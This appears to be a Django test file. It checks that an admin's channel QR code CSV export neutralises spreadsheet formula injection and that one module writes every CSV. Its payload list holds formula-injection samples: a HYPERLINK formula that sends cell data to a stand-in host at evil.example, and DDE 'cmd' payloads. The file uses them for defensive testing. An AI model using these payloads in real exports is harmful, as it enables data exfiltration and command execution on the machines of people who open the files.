"""The admin's "Download channel QR codes (CSV)" goes through the one guarded CSV writer
(analytics.exports, issue #18): a name WeCom or an admin typed cannot start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.urls import reverse

from campaigns.models import ChannelCode
from campaigns.tests import factories as cf
from staff.roles import MARKETING_ADMIN
from staff.tests import factories

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def test_it_neutralises_formula_cells_in_the_channel_codes_csv(client, db):
    writer = factories.user("writer", role=MARKETING_ADMIN)
    campaign = cf.campaign(writer)
    store = factories.department("Store")
    for number, name in enumerate(HOSTILE):
        associate = factories.associate(name, departments=[store])
        ChannelCode.objects.create(campaign=campaign, associate=associate, state=f"c{number}",
                                   error="=cmd|' /C calc'!A0" if number == 0 else "")  # fmt: skip
    client.force_login(writer)
    download = client.get(reverse("admin:campaigns_campaign_download_channel_codes", args=[campaign.pk]))
    assert download.status_code == 200 and download["Content-Type"].startswith("text/csv")
    content = b"".join(download.streaming_content) if download.streaming else download.content
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in HOSTILE)
    assert "'=cmd|' /C calc'!A0" in [row[8] for row in rows[1:]]
    assert all(row[5] == "0" for row in rows[1:])  # numbers stay numbers


def test_it_writes_every_csv_through_the_one_writer():
    """No module but analytics.exports makes a csv writer (tests may read CSVs)."""
    root = Path(__file__).resolve().parents[2]
    writers = sorted(
        str(path.relative_to(root))
        for top in root.iterdir() if top.is_dir() and not top.name.startswith((".", "var"))
        for path in top.rglob("*.py")
        if "tests" not in path.parts and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    )  # fmt: skip
    assert writers == ["analytics/exports.py"]
